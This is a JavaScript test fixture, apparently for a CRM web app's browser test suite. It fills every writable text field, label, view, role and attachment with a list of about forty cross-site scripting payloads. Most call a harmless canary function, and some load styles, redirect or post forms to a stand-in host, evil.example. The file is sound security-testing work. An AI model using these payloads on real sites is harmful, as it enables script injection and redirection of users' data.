// A company in which every text that somebody may write is an attack: records, files, people, roles, views, fields, choices, objects, stages.
import { api } from './browser.mjs';

// Each calls the canary, or leaves an element with its mark, wherever text is taken for a page.
const call = 'canary(1)';
export const payloads = [
  `<script>${call}</script>`,
  `<img src=x data-canary onerror=${call}>`,
  `"><img src=x data-canary onerror=${call}>`,
  `'><svg data-canary onload=${call}>`,
  `</title><script>${call}</script>`,
  `</textarea><img src=x data-canary onerror=${call}>`,
  `</style><b data-canary onclick=${call}>a</b>`,
  `<svg><script>${call}</script></svg>`,
  `<svg><animate data-canary onbegin=${call} attributeName=x dur=1s>`,
  `<iframe data-canary srcdoc="<script>parent.${call}</script>">`,
  `<iframe data-canary src="javascript:parent.${call}">`,
  `<a data-canary href="javascript:${call}">a</a>`,
  `[a](javascript:${call})`,
  `![a](x" data-canary onerror="${call})`,
  `@[a](javascript:${call})`,
  `@[<img src=x data-canary onerror=${call}>](1)`,
  `javascript:${call}`,
  `javascript:${call}//https://a.example`,
  `JaVaScRiPt:${call}`,
  `data:text/html,<script>${call}</script>`,
  `//evil.example/canary`,
  `<math><mi data-canary xlink:href="javascript:${call}">a</mi></math>`,
  `<details data-canary open ontoggle=${call}>`,
  `<input data-canary autofocus onfocus=${call}>`,
  `<body data-canary onload=${call}>`,
  `<object data-canary data="javascript:${call}">`,
  `<embed data-canary src="javascript:${call}">`,
  `<base data-canary href="//evil.example/">`,
  `<meta data-canary http-equiv=refresh content="0;url=//evil.example/">`,
  `<link data-canary rel=stylesheet href="//evil.example/a.css">`,
  `<form data-canary action="//evil.example/"><input name=a></form>`,
  `<style data-canary>*{background:url(//evil.example/a)}</style>`,
  `<template data-canary><script>${call}</script></template>`,
  `<noscript><p title="</noscript><img src=x data-canary onerror=${call}>">`,
  `{{constructor.constructor('${call}')()}}`,
  `\${${call}}`,
  `<%=${call}%>`,
  `<!--><img src=x data-canary onerror=${call}>-->`,
  `＜script＞${call}＜/script＞`,
  `<x data-canary onmouseover=${call} style="position:fixed;inset:0">a</x>`,
];

let next = 0;
const payload = () => payloads[next++ % payloads.length];
const label = () => ({ zh: payload(), en: payload() });

// A value for each text field that a hand may fill; what the field's own form refuses is left out.
function filling(object) {
  const record = {};
  for (const field of object.fields) {
    if (field.access !== 'edit' || (field.written_by ?? 'anyone') !== 'anyone' || field.active === false) continue;
    if (field.type === 'text' && ['plain', 'long', 'url', 'person'].includes(field.kind))
      record[field.name] = field.kind === 'long' ? payloads.join('\n') : payload();
  }
  return record;
}

// What the form of a field refuses is taken out, once for each that is refused.
async function make(page, plural, record) {
  for (let left = 12; left > 0; left -= 1) {
    try {
      return await api(page, 'POST', `/${plural}`, record);
    } catch (error) {
      const [, refused] = /"field":"(\w+)"/.exec(error.message) ?? [];
      if (!refused || !(refused in record)) throw error;
      delete record[refused];
    }
  }
  throw new Error(`no ${plural} of payloads`);
}

async function attach(page, object, id, name) {
  const { request } = page.context();
  const session = await request.get('/api/v1/session');
  const headers = {
    'x-csrf-token': (await session.json()).csrf,
    origin: new URL(session.url()).origin,
    'content-type': 'application/octet-stream',
  };
  await request.post(`/api/v1/attachments?${new URLSearchParams({ name, object, id })}`, {
    headers,
    data: '<script>canary(1)</script>',
  });
}

export async function poison(page) {
  await api(page, 'PATCH', '/organisation', { name: payload() });
  const choices = payloads.slice(0, 12).map((text, i) => ({ key: `k${i}`, label: { zh: text, en: text } }));
  const kinds = [
    { type: 'text', kind: 'long' },
    { type: 'text' },
    { type: 'choice', choices },
    { type: 'choices', choices },
  ];
  const fields = kinds.map((kind, i) => ({ name: `x_evil_${i}`, label: label(), help: label(), ...kind }));
  for (const object of ['account', 'deal', 'lead', 'contact', 'activity'])
    await api(page, 'POST', '/definitions', { object, fields });
  const views = payloads.slice(0, 6).map((text, i) => ({
    key: `x_view_${i}`,
    label: { zh: text.slice(0, 60), en: text.slice(0, 60) },
    filter: `name != "${text.replaceAll('"', '""')}"`,
  }));
  await api(page, 'POST', '/definitions', {
    object: 'deal',
    label: label(),
    plural_label: label(),
    views: { list: views },
  });
  await api(page, 'POST', '/definitions', {
    object: 'x_evil',
    custom: true,
    plural: 'x_evils',
    label: label(),
    plural_label: label(),
    fields: [
      { name: 'name', type: 'text', label: label(), required: true },
      ...fields,
      { name: 'x_deal', type: 'reference', target: 'deal', label: label() },
    ],
  });

  const described = (await api(page, 'GET', '/describe')).objects;
  const of = (name) => described.find((one) => one.name === name);
  const filled = (name) => filling(of(name));
  const one = { x_evil_2: 'k1', x_evil_3: ['k2', 'k3', 'k4'] };
  await make(page, 'roles', { ...filled('role'), key: 'evil', rights: '{"objects":{"*":{"read":"own"}}}' });
  const team = await make(page, 'teams', filled('team'));
  const member = await make(page, 'members', { ...filled('member'), email: 'evil@example.com', team: team.id });
  await make(page, 'members', { ...filled('member'), manager: member.id, roles: ['evil'] });
  await make(page, 'member_groups', filled('member_group'));
  const product = await make(page, 'products', filled('product'));
  const account = await make(page, 'accounts', { ...filled('account'), ...one });
  const contact = await make(page, 'contacts', { ...filled('contact'), ...one, account: account.id });
  const lead = await make(page, 'leads', { ...filled('lead'), ...one });
  const deal = await make(page, 'deals', {
    ...filled('deal'),
    ...one,
    account: account.id,
    contact: contact.id,
    product: product.id,
    amount: '1000',
  });
  await api(page, 'POST', `/deals/${deal.id}/actions/hand_over`, { owner: member.id });
  for (const [object, id] of [
    ['deal', deal.id],
    ['lead', lead.id],
  ])
    for (const kind of ['call', 'task', 'visit'])
      await make(page, 'activities', { ...filled('activity'), ...one, kind, [object]: id });
  await make(page, 'notes', { ...filled('note'), account: account.id, deal: deal.id });
  await make(page, 'x_evils', { ...filled('x_evil'), ...one, x_deal: deal.id });
  for (const text of payloads.slice(0, 8)) {
    await make(page, 'views', {
      ...filled('saved_view'),
      name: text,
      object: 'deal',
      filter: '',
      sort: '',
      columns: '',
      shared: 'all',
    });
    await attach(page, 'deal', deal.id, `${text}.html`);
  }
  await api(
    page,
    'PATCH',
    `/accounts/${account.id}`,
    { remarks: payload() },
    (await api(page, 'GET', `/accounts/${account.id}`)).version,
  );
  const won = await make(page, 'deals', { ...filled('deal'), ...one, account: account.id, amount: '5' });
  await api(page, 'POST', `/deals/${won.id}/actions/win`, {});
  return { deal, account, lead, won, evil: member };
}
